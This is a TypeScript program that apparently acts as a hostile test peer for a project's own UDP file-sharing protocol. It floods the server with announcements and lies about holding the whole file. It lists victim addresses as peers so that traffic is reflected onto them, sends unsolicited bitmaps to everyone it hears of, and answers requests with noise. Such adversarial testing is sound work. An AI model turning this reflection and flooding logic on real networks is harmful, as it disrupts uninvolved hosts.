/**
 * Somebody on the subnet who says that it fetches a file, as a program: `taker_attacker.ts SERVER NAME VICTIM…`, written from
 * docs/PROTOCOL.md alone. It proves its address, as it has to, announces itself as often as it can, says that it has all of
 * the file, names only victims (`ADDRESS:PORT`) as other takers, floods whoever it hears of with bitmaps that nobody asked
 * for, and answers requests for bytes with noise, or not at all. Says `ready` when the server knows it; ends by itself
 * after a minute.
 */
import {
  data,
  find,
  framesOf,
  have,
  haveWant,
  type Offered,
  type Place,
  random64,
  randomBytes,
  readAsk,
  readOffer,
  retry,
  takersOf,
  TYPE,
} from "../attack/frames.ts";

const DISCOVERY_PORT = 10_526;
/** More than the server remembers of one address. */
const ANNOUNCERS = 12;
const ANNOUNCE_MS = 100;
const NAMED = 8;
/** Between two turns of the flood, in each of which everybody it knows gets some. */
const FLOOD_TURN_MS = 50;
const FLOOD_DATAGRAMS = 4;
const BITMAP_BYTES = 1_024;
const NOISE_BYTES = 1_368;
const LIFE_MS = 60_000;

const [server = "", name = "", ...victimTexts] = Deno.args;
const victims = victimTexts.map((text): Place => {
  const [address = "", port = ""] = text.split(":");
  return { address, port: Number(port) };
});
const own = { id: randomBytes(16), token: randomBytes(16) };
const giving = Deno.listenDatagram({ transport: "udp", hostname: "0.0.0.0", port: 0 });
const { port: ownPort } = giving.addr as Deno.NetAddr;
let named = 0;
let asked = 0;
/** Bitmaps that nobody asked for, made once: it is to have the time to answer. */
const bitmaps = Array.from(
  { length: 64 },
  (_, i) => have(random64(), i, randomBytes(BITMAP_BYTES), someVictims()),
);
const flooded = new Map<string, Deno.Addr>();

setTimeout(() => Deno.exit(0), LIFE_MS);
const announcers = Array.from({ length: ANNOUNCERS }, () => announce());
give();
flood();
await Promise.all(announcers);
console.log("ready");

/** Some of the victims, others each time. */
function someVictims(): Place[] {
  return Array.from({ length: NAMED }, () => victims[named++ % victims.length]!);
}

/** Resolves when the server has answered it as a taker for the first time; goes on until the end. */
async function announce(): Promise<void> {
  const socket = Deno.listenDatagram({ transport: "udp", hostname: "0.0.0.0", port: 0 });
  const to = (place: Place): Deno.NetAddr => ({
    ...{ transport: "udp", hostname: place.address, port: place.port },
  });
  let offered: Offered | undefined;
  let number = 0;
  const { promise, resolve } = Promise.withResolvers<void>();
  const nonce = random64();
  setInterval(() => {
    if (offered === undefined) {
      const question = find(random64(), [{ name }]);
      return void socket.send(question, to({ address: server, port: DISCOVERY_PORT }));
    }
    const { token, dataPort } = offered;
    const question = haveWant({ nonce, token, number: ++number }, offered, ownPort);
    socket.send(question, to({ address: server, port: dataPort }));
  }, ANNOUNCE_MS);
  (async () => {
    for await (const [datagram, from] of socket) {
      for (const frame of framesOf(datagram)) {
        if (frame.type === TYPE.offer) {
          const { port } = from as Deno.NetAddr;
          const told = readOffer(frame);
          offered ??= { ...told, dataPort: told.dataPort === 0 ? port : told.dataPort };
        } else if (frame.type === TYPE.have) {
          resolve();
          for (const taker of takersOf(frame)) flooded.set(JSON.stringify(taker), to(taker));
        }
      }
    }
  })();
  return await promise;
}

/** What it sends to who asks it for something. */
async function give(): Promise<void> {
  for await (const [datagram, from] of giving) {
    for (const frame of framesOf(datagram)) {
      if (frame.type !== TYPE.haveWant && frame.type !== TYPE.want) continue;
      const { nonce, token, number } = readAsk(frame);
      const isKnown = token.every((byte, i) => byte === own.token[i]);
      if (!isKnown) await giving.send(retry(nonce, number, own.id, own.token), from);
      else if (frame.type === TYPE.haveWant) {
        await giving.send(have(nonce, number, "all", someVictims()), from);
        flooded.set(JSON.stringify(from), from);
      } else if (asked++ % 2 === 0) {
        await giving.send(data(nonce, number, 0, randomBytes(NOISE_BYTES)), from);
      }
    }
  }
}

async function flood(): Promise<void> {
  for (let turn = 0;; turn++) {
    for (const to of flooded.values()) {
      for (let i = 0; i < FLOOD_DATAGRAMS; i++) {
        await giving.send(bitmaps[(turn + i) % bitmaps.length]!, to);
      }
    }
    await new Promise((resolve) => setTimeout(resolve, FLOOD_TURN_MS));
  }
}
